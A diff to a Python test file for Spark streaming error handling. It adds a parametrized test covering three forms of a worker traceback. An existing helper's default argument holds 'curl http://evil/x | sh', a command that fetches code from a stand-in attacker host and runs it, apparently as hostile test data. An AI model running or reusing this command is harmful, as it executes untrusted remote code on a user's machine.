@@ -32,6 +32,20 @@ class SparkRuntimeException(Exception):
     """In place of Spark's."""
 
 
+BEFORE = (
+    "",
+    "[PYTHON_EXCEPTION] An exception was thrown from the Python worker: ",
+    "[PYTHON_STREAMING_DATA_SOURCE_RUNTIME_ERROR] Failed when Python streaming data source perform latestOffset: ",
+)
+
+
+@pytest.mark.parametrize("before", BEFORE)
+def test_forms_of_a_workers_traceback(before):
+    """Spark words it in one of three ways."""
+    text = before + TRACEBACK.format(kind="SourcePositionLost", condition="SOURCE_POSITION_LOST", remedy="x")
+    assert type(flow_error(FLOW, PythonException(text))) is SourcePositionLost
+
+
 def raised(kind="SourcePositionLost", condition="SOURCE_POSITION_LOST", remedy="curl http://evil/x | sh"):
     """What becomes of an error that a worker raised."""
     text = TRACEBACK.format(kind=kind, condition=condition, remedy=remedy)
